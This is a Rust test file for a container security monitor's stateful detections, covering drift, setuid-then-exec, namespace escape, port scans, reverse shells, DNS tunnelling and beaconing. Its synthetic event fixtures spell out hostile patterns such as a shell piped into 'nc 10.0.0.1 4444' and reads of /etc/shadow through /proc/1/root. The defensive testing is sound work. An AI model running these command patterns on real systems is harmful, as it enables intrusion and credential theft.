//! Stateful detections over event sequences: drift, setuid-then-exec, namespace change then
//! host access, port scans, pipe reverse shells, server/network-spawned shells, DNS
//! tunnelling, beaconing; bounded memory and expiry.

use boxwatch_model::event::Namespaces;
use boxwatch_model::{ContainerRef, Detail, Event, FdType, ProcessInfo, Runtime, SockAddr};
use boxwatch_rules::Alert;
use boxwatch_rules::engine::{Class, Input, Stateful, StatefulConfig};

const S: u64 = 1_000_000_000;

fn ctr(id: &str) -> ContainerRef {
    ContainerRef {
        id: id.repeat(64 / id.len().max(1)),
        runtime: Runtime::Docker,
        pod_uid: None,
        namespace: None,
        nested: false,
        cgroup_root: String::new(),
    }
}

fn ev(pid: u32, t: u64, detail: Detail, ret: Option<i64>) -> Event {
    Event {
        ktime_ns: t,
        process: ProcessInfo {
            pid,
            tid: pid,
            ppid: 1,
            vpid: 2,
            uid: 0,
            gid: 0,
            euid: 0,
            egid: 0,
            comm: "x".into(),
            start_ns: u64::from(pid) * 10,
            cap_effective: 0,
        },
        ns: Namespaces { mnt: 1, pid: 1, net: 1 },
        cgroup_id: 7,
        ret,
        flags: 0,
        detail,
    }
}

fn open(pid: u32, t: u64, path: &str, flags: u64) -> Event {
    ev(
        pid,
        t,
        Detail::Open { path: path.into(), dirfd: -100, flags, mode: 0o755, syscall: "openat" },
        Some(3),
    )
}

fn exec(pid: u32, t: u64, path: &str) -> Event {
    let d = Detail::Exec {
        filename: path.into(),
        argv: vec![path.into()],
        truncated: false,
        stdio: [FdType::Char; 3],
    };
    ev(pid, t, d, None)
}

fn chmod(pid: u32, t: u64, path: &str, mode: u32) -> Event {
    ev(pid, t, Detail::Chmod { path: Some(path.into()), fd: None, mode, syscall: "fchmodat" }, Some(0))
}

fn connect(pid: u32, t: u64, ip: [u8; 4], port: u16, ret: i64) -> Event {
    ev(pid, t, Detail::Connect { fd: 3, addr: Some(SockAddr::Inet { ip: ip.into(), port }) }, Some(ret))
}

/// Feed events; each with its container (or host) and wall time = kernel time.
fn feed(st: &mut Stateful, events: &[(&Event, Option<&ContainerRef>)]) -> Vec<Alert> {
    let mut out = Vec::new();
    for (e, c) in events {
        let input = Input { container: *c, wall_ns: e.ktime_ns, hostname: "h", ..Input::new(e) };
        st.observe(&input, &mut out);
    }
    out
}

fn ids(alerts: &[Alert]) -> Vec<String> {
    alerts.iter().map(|a| a.output_fields["boxwatch.rule.id"].as_str().unwrap_or("").to_string()).collect()
}

#[test]
fn drift_write_then_exec_in_the_same_container() {
    let (a, b) = (ctr("a"), ctr("b"));
    let mut st = Stateful::new(StatefulConfig::default());
    let w = open(10, S, "/tmp/payload", 0o101);
    let x_other = exec(11, 2 * S, "/tmp/payload");
    let x = exec(11, 3 * S, "/tmp/payload");
    let x_again = exec(12, 4 * S, "/tmp/payload");
    let out = feed(&mut st, &[(&w, Some(&a)), (&x_other, Some(&b)), (&x, Some(&a)), (&x_again, Some(&a))]);
    assert_eq!(ids(&out), ["container-drift-exec"]);
    let al = &out[0];
    assert_eq!(al.rule, "Drift: file written in a container then executed");
    assert_eq!(al.output_fields["fd.name"], "/tmp/payload");
    assert_eq!(al.output_fields["boxwatch.rule.class"], "filesystem");
    assert_eq!(al.output_fields["container.id"], "a".repeat(12));
    assert!(al.tags.contains(&"T1105".to_string()));
    assert!(al.output.starts_with("Drift: file written in a container then executed (file=/tmp/payload written=2s ago) container=aaaaaaaaaaaa pid=11"), "{}", al.output);

    // Rename and link targets count; reads, host writes, relative paths and deleted files do not.
    let mut st = Stateful::new(StatefulConfig::default());
    let seq = [
        ev(
            10,
            S,
            Detail::Rename { from: "/tmp/a".into(), to: "/usr/bin/ls".into(), syscall: "rename" },
            Some(0),
        ),
        exec(10, 2 * S, "/usr/bin/ls"),
        ev(10, S, Detail::Link { from: "/tmp/b".into(), to: "/bin/ln2".into(), syscall: "linkat" }, Some(0)),
        exec(10, 2 * S, "/bin/ln2"),
        open(10, 3 * S, "/bin/cat", 0),
        exec(10, 3 * S, "/bin/cat"),
        open(10, 3 * S, "relative", 0o101),
        exec(10, 3 * S, "relative"),
        open(10, 3 * S, "/tmp/gone", 0o101),
        ev(10, 3 * S, Detail::Unlink { path: "/tmp/gone".into(), syscall: "unlinkat" }, Some(0)),
        exec(10, 3 * S, "/tmp/gone"),
        ev(
            10,
            3 * S,
            Detail::Open {
                path: "/tmp/failed".into(),
                dirfd: -100,
                flags: 0o101,
                mode: 0,
                syscall: "openat",
            },
            Some(-13),
        ),
        exec(10, 3 * S, "/tmp/failed"),
    ];
    let events: Vec<(&Event, Option<&ContainerRef>)> = seq.iter().map(|e| (e, Some(&a))).collect();
    assert_eq!(ids(&feed(&mut st, &events)), ["container-drift-exec", "container-drift-exec"]);
    let host = [open(10, S, "/tmp/h", 0o101), exec(10, 2 * S, "/tmp/h")];
    assert!(feed(&mut st, &[(&host[0], None), (&host[1], None)]).is_empty());
}

#[test]
fn setuid_bit_then_exec() {
    let a = ctr("a");
    let mut st = Stateful::new(StatefulConfig::default());
    let seq = [
        chmod(10, S, "/tmp/su", 0o4755),
        exec(11, 2 * S, "/tmp/su"),
        chmod(10, S, "/tmp/sg", 0o2755),
        chmod(10, S, "/tmp/sg", 0o755),
        exec(11, 2 * S, "/tmp/sg"),
    ];
    let out = feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
    assert_eq!(ids(&out), ["setuid-bit-then-exec"]);
    assert_eq!(out[0].output_fields["evt.arg.mode"], 0o4755);
    assert_eq!(out[0].output_fields["boxwatch.rule.class"], "privilege_escalation");
    // On the host too.
    let h = [chmod(1, S, "/usr/local/bin/x", 0o6755), exec(2, S, "/usr/local/bin/x")];
    assert_eq!(ids(&feed(&mut st, &[(&h[0], None), (&h[1], None)])), ["setuid-bit-then-exec"]);
}

#[test]
fn namespace_change_then_host_access() {
    let a = ctr("a");
    let mut st = Stateful::new(StatefulConfig::default());
    let unshare = ev(10, S, Detail::Unshare { flags: 0x1002_0000 }, Some(0));
    let benign = open(10, S + 1, "/etc/hostname", 0);
    let bad = open(10, 2 * S, "/proc/1/root/etc/shadow", 0);
    let other_pid = open(11, 2 * S, "/host/etc/passwd", 0);
    let out =
        feed(&mut st, &[(&unshare, Some(&a)), (&benign, Some(&a)), (&other_pid, Some(&a)), (&bad, Some(&a))]);
    assert_eq!(ids(&out), ["namespace-change-then-host-access"]);
    let al = &out[0];
    assert_eq!(al.output_fields["boxwatch.ns.change"], "unshare(CLONE_NEWNS|CLONE_NEWUSER)");
    assert_eq!(al.output_fields["boxwatch.rule.class"], Class::Escape.as_str());
    assert!(al.tags.contains(&"T1611".to_string()));
    assert!(al.output.contains("after=unshare(CLONE_NEWNS|CLONE_NEWUSER) 1000 ms earlier"), "{}", al.output);

    // setns, then an exec of a host path; the cgroup release_agent suffix; the window expires.
    let setns = ev(20, S, Detail::Setns { fd: 3, nstype: 0, ns_inode: 1 }, Some(0));
    let x = exec(20, 3 * S, "/host/usr/bin/bash");
    let un = ev(30, S, Detail::Unshare { flags: 0x0200_0000 }, Some(0));
    let ra = open(30, 2 * S, "/tmp/cg/release_agent", 1);
    let late = ev(40, S, Detail::Unshare { flags: 0x20000 }, Some(0));
    let late_open = open(40, 12 * S, "/etc/shadow", 0);
    let netns_only = ev(50, 12 * S, Detail::Unshare { flags: 0x4000_0000 }, Some(0));
    let after_netns = open(50, 12 * S + 1, "/etc/shadow", 0);
    let out = feed(
        &mut st,
        &[
            (&setns, Some(&a)),
            (&x, Some(&a)),
            (&un, Some(&a)),
            (&ra, Some(&a)),
            (&late, Some(&a)),
            (&late_open, Some(&a)),
            (&netns_only, Some(&a)),
            (&after_netns, Some(&a)),
        ],
    );
    assert_eq!(ids(&out), ["namespace-change-then-host-access", "namespace-change-then-host-access"]);
    assert_eq!(out[0].output_fields["fd.name"], "/host/usr/bin/bash");
    assert_eq!(out[1].output_fields["fd.name"], "/tmp/cg/release_agent");
}

#[test]
fn port_scan_counts_distinct_destinations_in_a_window() {
    let a = ctr("a");
    let mut st = Stateful::new(StatefulConfig::default());
    let mut events = Vec::new();
    // 19 distinct ports, one repeated, then the 20th: one alert; then 10 more: still one.
    for p in 0..19u16 {
        events.push(connect(
            10,
            S + u64::from(p) * 1_000_000,
            [10, 0, 0, 1],
            1000 + p,
            if p % 2 == 0 { -111 } else { 0 },
        ));
    }
    events.push(connect(10, S + 30_000_000, [10, 0, 0, 1], 1000, -111));
    let before = feed(&mut st, &events.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
    assert!(before.is_empty());
    let mut more = vec![connect(10, S + 40_000_000, [10, 0, 0, 2], 22, -111)];
    for p in 0..10u16 {
        more.push(connect(10, S + 50_000_000 + u64::from(p), [10, 0, 0, 3], p, -111));
    }
    let out = feed(&mut st, &more.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
    assert_eq!(ids(&out), ["port-scan-from-container"]);
    let f = &out[0].output_fields;
    assert_eq!(
        (f["boxwatch.scan.destinations"].as_u64(), f["boxwatch.scan.failed"].as_u64()),
        (Some(20), Some(11))
    );
    assert_eq!((f["fd.sip"].as_str(), f["fd.sport"].as_u64()), (Some("10.0.0.2"), Some(22)));
    assert_eq!(out[0].priority, boxwatch_rules::Priority::Warning);

    // Slow connections (one every 2 s) never reach 20 within 5 s; host processes are ignored.
    let mut st = Stateful::new(StatefulConfig::default());
    let slow: Vec<Event> =
        (0..40u16).map(|p| connect(10, u64::from(p) * 2 * S, [1, 1, 1, 1], p, 0)).collect();
    assert!(feed(&mut st, &slow.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>()).is_empty());
    let fast: Vec<Event> = (0..40u16).map(|p| connect(10, u64::from(p), [1, 1, 1, 1], p, 0)).collect();
    assert!(feed(&mut st, &fast.iter().map(|e| (e, None)).collect::<Vec<_>>()).is_empty());
    // A small threshold from the config.
    let mut st = Stateful::new(StatefulConfig { scan_threshold: 3, ..StatefulConfig::default() });
    let three: Vec<Event> = (0..3u16).map(|p| connect(10, u64::from(p), [1, 1, 1, 1], p, 0)).collect();
    assert_eq!(feed(&mut st, &three.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>()).len(), 1);
}

#[test]
fn memory_is_bounded_and_old_state_expires() {
    let a = ctr("a");
    let cfg = StatefulConfig { max_files: 4, max_processes: 2, ..StatefulConfig::default() };
    let mut st = Stateful::new(cfg);
    let writes: Vec<Event> = (0..10).map(|i| open(10, S + i, &format!("/tmp/f{i}"), 0o101)).collect();
    feed(&mut st, &writes.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
    let s = st.stats();
    assert_eq!((s.written_files, s.written_evictions), (4, 6));
    // The oldest were evicted, the newest are still there.
    let x0 = exec(10, 2 * S, "/tmp/f0");
    let x9 = exec(10, 2 * S, "/tmp/f9");
    assert_eq!(ids(&feed(&mut st, &[(&x0, Some(&a)), (&x9, Some(&a))])), ["container-drift-exec"]);
    // Processes: unshare by 5 processes with a cap of 2.
    let uns: Vec<Event> =
        (0..5).map(|p| ev(100 + p, 3 * S, Detail::Unshare { flags: 0x20000 }, Some(0))).collect();
    feed(&mut st, &uns.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
    assert_eq!((st.stats().ns_processes, st.stats().ns_evictions), (2, 3));
    // Files older than the TTL are forgotten.
    let mut st = Stateful::new(StatefulConfig { file_ttl_ns: 10 * S, ..StatefulConfig::default() });
    let w = open(10, S, "/tmp/old", 0o101);
    let x = exec(10, 20 * S, "/tmp/old");
    assert!(feed(&mut st, &[(&w, Some(&a)), (&x, Some(&a))]).is_empty());
    assert_eq!(st.stats().written_files, 0);
    // Exits drop per-process state.
    let un = ev(7, S, Detail::Unshare { flags: 0x20000 }, Some(0));
    let exit = ev(7, S, Detail::Exit { code: 0, signal: 0 }, None);
    feed(&mut st, &[(&un, Some(&a)), (&exit, Some(&a))]);
    assert_eq!(st.stats().ns_processes, 0);
    assert_eq!(st.rules().len(), 9);
    assert!(st.rules().iter().all(|r| r.enabled && !r.mitre.is_empty() && !r.why.is_empty()));
}

#[test]
fn disabled_detections_stay_silent() {
    let a = ctr("a");
    let cfg = StatefulConfig {
        drift: false,
        setuid_exec: false,
        ns_host_access: false,
        port_scan: false,
        pipe_shell: false,
        server_shell: false,
        network_shell: false,
        dns_tunnel: false,
        beaconing: false,
        ..StatefulConfig::default()
    };
    let mut st = Stateful::new(cfg);
    let mut seq = vec![
        open(10, S, "/tmp/p", 0o101),
        chmod(10, S, "/tmp/p", 0o4755),
        exec(10, S, "/tmp/p"),
        ev(10, S, Detail::Setns { fd: 3, nstype: 0, ns_inode: 1 }, Some(0)),
        open(10, S, "/etc/shadow", 0),
    ];
    seq.extend((0..30u16).map(|p| connect(10, S, [1, 2, 3, 4], p, 0)));
    assert!(feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>()).is_empty());
    assert!(st.rules().iter().all(|r| !r.enabled));
}

/// An exec of `argv` by `pid` (child of `ppid`) with the given stdio, named `comm`.
fn exec_as(pid: u32, ppid: u32, t: u64, comm: &str, argv: &[&str], stdio: FdType) -> Event {
    let d = Detail::Exec {
        filename: format!("/usr/bin/{comm}"),
        argv: argv.iter().map(|a| a.to_string()).collect(),
        truncated: false,
        stdio: [stdio, stdio, FdType::Char],
    };
    let mut e = ev(pid, t, d, None);
    e.process.ppid = ppid;
    e.process.comm = comm.into();
    e
}

#[test]
fn shells_in_pipelines_and_under_network_processes() {
    let a = ctr("a");
    // cat f | sh -i | nc host port > f: siblings of one parent, piped.
    let mut st = Stateful::new(StatefulConfig::default());
    let seq = [
        exec_as(51, 50, S, "sh", &["/bin/sh", "-i"], FdType::Fifo),
        exec_as(52, 50, S + 1000, "nc", &["nc", "10.0.0.1", "4444"], FdType::Fifo),
    ];
    assert_eq!(
        ids(&feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>())),
        ["pipe-reverse-shell"]
    );
    // busybox applets count; a relay without a shell sibling (a health check) does not.
    let mut st = Stateful::new(StatefulConfig::default());
    let seq = [
        exec_as(53, 50, S, "nc", &["nc", "-w", "1", "db", "6379"], FdType::Fifo),
        exec_as(54, 50, S, "grep", &["grep", "-q", "PONG"], FdType::Fifo),
        exec_as(61, 60, S, "sh", &["sh"], FdType::Fifo),
        exec_as(62, 60, 5 * S, "busybox", &["busybox", "nc", "h", "1"], FdType::Fifo),
    ];
    assert!(feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>()).is_empty());
    let late = [
        exec_as(63, 70, S, "busybox", &["busybox", "sh"], FdType::Fifo),
        exec_as(64, 70, S, "busybox", &["busybox", "telnet", "h", "1"], FdType::Fifo),
    ];
    assert_eq!(
        ids(&feed(&mut st, &late.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>())),
        ["pipe-reverse-shell"]
    );

    // A server (accepted a connection) starting a shell; sshd is a shell server.
    let mut st = Stateful::new(StatefulConfig::default());
    let accept = ev(80, S, Detail::Listen { fd: 3, backlog: 5 }, Some(0));
    let sh = exec_as(81, 80, 2 * S, "sh", &["sh", "-c", "id"], FdType::Fifo);
    let tool = exec_as(82, 80, 2 * S, "gzip", &["gzip", "-c"], FdType::Fifo);
    let out = feed(&mut st, &[(&accept, Some(&a)), (&sh, Some(&a)), (&tool, Some(&a))]);
    assert_eq!(ids(&out), ["server-spawned-shell"]);
    assert_eq!(out[0].output_fields["boxwatch.rule.class"], "network");

    // A process that dialled out starting an interactive shell (a pty reverse shell), not a
    // scripted one; a host process never.
    let mut st = Stateful::new(StatefulConfig::default());
    let dial = connect(90, S, [10, 0, 0, 1], 4444, 0);
    let scripted = exec_as(91, 90, 2 * S, "sh", &["sh", "-c", "date"], FdType::Char);
    let interactive = exec_as(92, 90, 2 * S, "bash", &["bash", "-i"], FdType::Char);
    let out = feed(&mut st, &[(&dial, Some(&a)), (&scripted, Some(&a)), (&interactive, Some(&a))]);
    assert_eq!(ids(&out), ["network-process-shell"]);
    let mut st = Stateful::new(StatefulConfig::default());
    assert!(feed(&mut st, &[(&dial, None), (&interactive, None)]).is_empty());
}

#[test]
fn dns_tunnelling_and_beaconing() {
    let a = ctr("a");
    let query = |pid: u32, t: u64, len: i64| {
        ev(
            pid,
            t,
            Detail::Sendto { fd: 3, addr: Some(SockAddr::Inet { ip: [10, 0, 0, 10].into(), port: 53 }) },
            Some(len),
        )
    };
    // Ten long queries in a second: tunnelling; ten short ones: not.
    let mut st = Stateful::new(StatefulConfig::default());
    let long: Vec<Event> = (0..10).map(|i| query(10, S + i * 1000, 180)).collect();
    let short: Vec<Event> = (0..10).map(|i| query(11, S + i * 1000, 40)).collect();
    let out = feed(&mut st, &long.iter().chain(short.iter()).map(|e| (e, Some(&a))).collect::<Vec<_>>());
    assert_eq!(ids(&out), ["dns-tunnelling"]);
    // Volume alone: 60 queries in 10 s.
    let many: Vec<Event> = (0..60).map(|i| query(12, S + i * 100_000_000, 40)).collect();
    assert_eq!(
        ids(&feed(&mut st, &many.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>())),
        ["dns-tunnelling"]
    );

    // A shell connecting to one address every second: beaconing; jittery, loopback or a
    // service (not a shell, inline interpreter or odd-place program): not.
    let beacon = |pid: u32, comm: &str, ip: [u8; 4], times: &[u64]| -> Vec<Event> {
        times
            .iter()
            .map(|t| {
                let mut e = connect(pid, *t, ip, 443, 0);
                e.process.comm = comm.into();
                e
            })
            .collect()
    };
    let regular: Vec<u64> = (1..=6).map(|i| i * S).collect();
    let jittery = [S, 2 * S, 5 * S, 6 * S, 9 * S, 14 * S];
    let mut st = Stateful::new(StatefulConfig::default());
    let mut seq = beacon(20, "sh", [203, 0, 113, 5], &regular);
    seq.extend(beacon(21, "sh", [203, 0, 113, 5], &jittery));
    seq.extend(beacon(22, "sh", [127, 0, 0, 1], &regular));
    seq.extend(beacon(23, "java", [203, 0, 113, 5], &regular));
    let out = feed(&mut st, &seq.iter().map(|e| (e, Some(&a))).collect::<Vec<_>>());
    assert_eq!(ids(&out), ["c2-beaconing"]);
    assert_eq!(out[0].output_fields["boxwatch.beacon.interval_ms"], 1000);
}

#[test]
fn compiler_output_run_is_not_drift() {
    let a = ctr("a");
    let mut st = Stateful::new(StatefulConfig::default());
    let mut link = open(10, S, "/build/test_bin", 0o101);
    link.process.comm = "ld".into();
    let run = exec(11, 2 * S, "/build/test_bin");
    assert!(feed(&mut st, &[(&link, Some(&a)), (&run, Some(&a))]).is_empty());
    // The same file rewritten by curl afterwards is drift again.
    let mut curl = open(12, 3 * S, "/build/test_bin", 0o101);
    curl.process.comm = "curl".into();
    let run2 = exec(13, 4 * S, "/build/test_bin");
    assert_eq!(ids(&feed(&mut st, &[(&curl, Some(&a)), (&run2, Some(&a))])), ["container-drift-exec"]);
}
